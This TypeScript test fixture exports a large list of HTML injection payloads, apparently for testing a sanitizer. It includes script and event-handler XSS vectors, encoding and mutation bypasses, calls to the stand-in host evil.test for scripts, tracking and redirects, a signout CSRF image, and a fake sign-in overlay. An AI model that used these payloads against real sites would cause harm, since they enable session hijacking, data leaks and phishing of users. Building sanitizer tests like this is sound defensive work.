// One a line: what OWASP lists for filters, what found its way through cleaners before, and what pages were changed by without a script.
const lines =
  String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)></script>
<script>alert(1)
<script
>alert(1)</script>
<<script>alert(1);//<</script>
<script x>alert(1)</script 1=2
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<IMG SRC=x OnErRoR=alert(1)>
<img/src/onerror=alert(1)>
<img src="x" onerror="alert&#40;1&#41;">
<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<img src=javascript:alert(1)>
<img src="&#x6A;avascript:alert(1)">
<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+>
<img srcset="x" onerror=alert(1)>
<img src="https://evil.test/track.gif">
<img src="//evil.test/track.gif">
<img src="/api/v1/file/image?id=1" onload=alert(1)>
<img src="/api/v1/file/image?id=1&x=&quot; onerror=alert(1)">
<img src="/api/v1/user/signout">
<img src="/api/v1/file/image?id=1/../../user">
<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
<img """><script>alert(1)</script>">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<image src=x onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover value=alert(1)>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>X</text></a></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<svg><title><svg><style></title><img src=x onerror=alert(1)></style></svg></title></svg>
<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">CLICK</math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><input name=attributes><input name=nodeName></form><img src=x onerror=alert(1)>
<form action=javascript:alert(1)><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>
<isindex action=javascript:alert(1) type=image>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus></select>
<select><style></select><img src=x onerror=alert(1)></style></select>
<select><template><style></template></select><img src=x onerror=alert(1)></style>
<textarea onfocus=alert(1) autofocus></textarea>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1)>X</button>
<details open ontoggle=alert(1)><summary>X</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>X</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>X</marquee>
<body onload=alert(1)>
<body/onpageshow=alert(1)>
<body background="javascript:alert(1)">
<bgsound src="javascript:alert(1)">
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe><img title="</iframe><img src=x onerror=alert(1)>">
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type=text/x-scriptlet data=https://evil.test/x></object>
<embed src=javascript:alert(1)>
<embed code=https://evil.test/x.swf allowscriptaccess=always>
<applet code=javascript:alert(1)></applet>
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<base href="https://evil.test/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.test/">
<meta http-equiv=Set-Cookie content="userid=1">
<style>@import 'https://evil.test/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<p style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</p>
<p style="background:url(https://evil.test/track.gif)">X</p>
<p style="width:expression(alert(1))">X</p>
<p style="-moz-binding:url(https://evil.test/x#y)">X</p>
<p class="mantine-Overlay-root" id="root">X</p>
<p id=x tabindex=1 onfocus=alert(1)></p>
<p onmouseover=alert(1)>X</p>
<p/onclick=alert(1)>X</p>
<p	onclick=alert(1)>X</p>
<p onclick
=
alert(1)>X</p>
<div onwheel=alert(1) style=height:1000px>X</div>
<div contenteditable onblur=alert(1)>X</div>
<a href=javascript:alert(1)>X</a>
<a href="JaVaScRiPt:alert(1)">X</a>
<a href=" javascript:alert(1)">X</a>
<a href="&#1;javascript:alert(1)">X</a>
<a href="java&#9;script:alert(1)">X</a>
<a href="java&#10;script:alert(1)">X</a>
<a href="java&NewLine;script:alert(1)">X</a>
<a href="javascript&colon;alert(1)">X</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">X</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">X</a>
<a href="javascript://https://college.test/%0aalert(1)">X</a>
<a href="vbscript:msgbox(1)">X</a>
<a href="livescript:alert(1)">X</a>
<a href="data:text/html,<script>alert(1)</script>">X</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">X</a>
<a href="blob:https://college.test/1">X</a>
<a href="file:///etc/passwd">X</a>
<a href="view-source:https://college.test">X</a>
<a href="//evil.test">X</a>
<a href="/\evil.test">X</a>
<a href="\\evil.test">X</a>
<a href="/&#9;/evil.test">X</a>
<a href="https:\\evil.test">X</a>
<a href="x:y">X</a>
<a href="mailto:a@b.test&#10;Bcc:all@b.test">X</a>
<a href="https://x.test" onclick=alert(1) target=_top ping=https://evil.test>X</a>
<a href="https://x.test/&quot; onmouseover=&quot;alert(1)">X</a>
<a href='x' xlink:href="javascript:alert(1)">X</a>
<a href="https://x.test"><img src=x onerror=alert(1)></a>
<a/href="j&Tab;a&Tab;vascript:alert(1)">X</a>
<a<a href=javascript:alert(1)>X</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>
<title><p title="</title><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<option>&lt;img src=x onerror=alert(1)&gt;</option>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<table background="javascript:alert(1)"><tr><td background=javascript:alert(1)>X</td></tr></table>
<table><td><img src=x onerror=alert(1)></table>
<table><style><img src=x onerror=alert(1)></style></table>
<td colspan="&quot; onclick=alert(1)">X</td>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"><img src=x onerror=alert(1)>
<?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
</p></li></ul><img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'"--></style></script><svg onload=alert(1)>
jaVasCript:/*-/*` +
  '`/*\\`/*' +
  String.raw`'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(1)//>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
＜script＞alert(1)＜/script＞
<p>{{constructor.constructor('alert(1)')()}}</p>
<x onclick=alert(1)>X</x>
<custom-element onfocus=alert(1) tabindex=1 autofocus>X</custom-element>
<dialog open onclose=alert(1)>X</dialog>
<portal src=javascript:alert(1)>
<p slot=x part=y is=z data-x="alert(1)" aria-hidden=true>X</p>
`

/** HTML that tries to run something, to leave the page, or to pass for the page itself. */
export const htmlPayloads: readonly string[] = [
  ...lines.split('\n').filter((line) => line !== ''),
  '<img src=x\u0000 onerror=alert(1)>',
  '<a href="java\u0000script:alert(1)">X</a>',
  '<a href="\u0001javascript:alert(1)">X</a>',
  '<a href="java\u00ADscript:alert(1)">X</a>',
  '<a href="\u2028javascript:alert(1)">X</a>',
  '<script\u000C>alert(1)</script\u000C>',
  `${'<p>'.repeat(500)}<img src=x onerror=alert(1)>`,
  `${'<blockquote>'.repeat(600)}<svg><style><img src=x onerror=alert(1)>`,
]
